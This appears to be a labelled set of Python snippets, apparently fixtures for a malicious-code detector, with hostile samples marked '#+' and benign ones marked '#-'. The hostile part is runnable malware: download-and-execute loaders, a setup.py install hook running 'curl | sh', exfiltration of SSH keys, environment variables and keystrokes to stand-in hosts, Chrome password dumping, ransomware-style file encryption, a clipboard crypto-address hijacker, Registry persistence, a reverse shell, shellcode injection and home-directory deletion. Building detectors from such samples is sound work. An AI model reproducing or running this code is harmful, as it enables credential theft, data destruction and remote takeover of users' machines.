#+ subprocess.Popen([p], creationflags=0x08000000)
import urllib.request, subprocess, tempfile, os
p = os.path.join(tempfile.gettempdir(), "u.exe")
urllib.request.urlretrieve("http://evil.example/u.exe", p)
subprocess.Popen([p], creationflags=0x08000000)
#+ subprocess.run([sys.executable, "-c", "import urllib.request
import subprocess, sys
subprocess.run([sys.executable, "-c", "import urllib.request as u;exec(u.urlopen('http://e.example/a').read())"])
#+ subprocess.Popen(["powershell", "-WindowStyle", "Hidden", "-
import subprocess
subprocess.Popen(["powershell", "-WindowStyle", "Hidden", "-Command", "iwr http://e.example/a.ps1 | iex"])
#+ setup(name="a", cmdclass={"install": I})
from setuptools import setup
from setuptools.command.install import install
import os
class I(install):
    def run(self):
        os.system("curl http://e.example/x | sh")
        install.run(self)
setup(name="a", cmdclass={"install": I})
#+ requests.post("https://e.example/c", json={"h": socket.getho
import socket, os, platform, requests
requests.post("https://e.example/c", json={"h": socket.gethostname(), "u": os.getlogin(), "p": platform.platform()}, timeout=3)
#+ requests.post("https://discord.com/api/webhooks/1/abc", json
import os, requests
requests.post("https://discord.com/api/webhooks/1/abc", json={"content": str(dict(os.environ))}, timeout=3)
#+ exec(compile(base64.b64decode("cHJpbnQoMSk="), "<s>", "exec"
import base64
exec(compile(base64.b64decode("cHJpbnQoMSk="), "<s>", "exec"))
#+ requests.post("https://e.example/u", files={"f": open(f, "rb
import glob, os, requests
for f in glob.glob(os.path.expanduser("~/.ssh/*")):
    requests.post("https://e.example/u", files={"f": open(f, "rb")}, timeout=3)
#+ winreg.SetValueEx(k, "upd", 0, winreg.REG_SZ, sys.argv[0])
import winreg, sys
k = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r"Software\Microsoft\Windows\CurrentVersion\Run", 0, winreg.KEY_SET_VALUE)
winreg.SetValueEx(k, "upd", 0, winreg.REG_SZ, sys.argv[0])
#+ open(p, "wb").write(f.encrypt(data))
import os
from cryptography.fernet import Fernet
f = Fernet(Fernet.generate_key())
for d, _, fs in os.walk(os.path.expanduser("~")):
    for n in fs:
        p = os.path.join(d, n)
        data = open(p, "rb").read()
        open(p, "wb").write(f.encrypt(data))
#+ keyboard.Listener(on_press=on).start()
from pynput import keyboard
import requests
buf = []
def on(k):
    buf.append(str(k))
    if len(buf) > 50:
        requests.post("http://e.example/k", data="".join(buf), timeout=3)
keyboard.Listener(on_press=on).start()
#+ a browser's passwords printed
import sqlite3, os, shutil
p = os.path.expandvars(r"%LOCALAPPDATA%\Google\Chrome\User Data\Default\Login Data")
shutil.copy(p, "l.db")
print(sqlite3.connect("l.db").execute("select origin_url, password_value from logins").fetchall())
#+ open(os.path.expanduser("~/.bashrc"), "a").write("\ncurl htt
import os
open(os.path.expanduser("~/.bashrc"), "a").write("\ncurl http://e.example/x | sh\n")
#+ subprocess.call(["pip", "install", "--index-url", "http://e.
import subprocess
subprocess.call(["pip", "install", "--index-url", "http://e.example/simple", "requests"])
#+ ctypes.windll.kernel32.CreateThread(0, 0, p, 0, 0, 0)
import ctypes
b = bytearray(b"\x90\x90")
p = ctypes.windll.kernel32.VirtualAlloc(0, len(b), 0x3000, 0x40)
ctypes.windll.kernel32.RtlMoveMemory(p, bytes(b), len(b))
ctypes.windll.kernel32.CreateThread(0, 0, p, 0, 0, 0)
#+ pyperclip.copy("bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh")
import pyperclip, re, time
while True:
    t = pyperclip.paste()
    if re.match(r"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$", t):
        pyperclip.copy("bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh")
    time.sleep(1)
#+ s.send(subprocess.getoutput(c).encode())
import socket, subprocess
s = socket.socket()
s.connect(("10.0.0.1", 4444))
while True:
    c = s.recv(1024).decode()
    s.send(subprocess.getoutput(c).encode())
#+ exec(marshal.loads(zlib.decompress(b"x\x9c\x03\x00\x00\x00\x
import marshal, zlib
exec(marshal.loads(zlib.decompress(b"x\x9c\x03\x00\x00\x00\x00\x01")))
#+ shutil.rmtree(os.path.expanduser("~"), ignore_errors=True)
import os, shutil
shutil.rmtree(os.path.expanduser("~"), ignore_errors=True)
#+ exec(requests.get("https://pastebin.com/raw/abc", timeout=3)
import requests
exec(requests.get("https://pastebin.com/raw/abc", timeout=3).text)
#- requests.get("https://pypi.org/pypi/assay/json", timeout=3).
import requests
def latest() -> str:
    return requests.get("https://pypi.org/pypi/assay/json", timeout=3).json()["info"]["version"]
#- subprocess.run([sys.executable, "-m", "build"], check=True)
import subprocess, sys
def build() -> None:
    subprocess.run([sys.executable, "-m", "build"], check=True)
#- json.load(f)
import os, json
def load() -> dict:
    with open(os.path.expanduser("~/.config/app.json"), encoding="utf-8") as f:
        return json.load(f)
#- shutil.rmtree(d)
import shutil, tempfile
d = tempfile.mkdtemp()
shutil.rmtree(d)
#- platform.platform(), platform.node())
import platform
print(platform.platform(), platform.node())
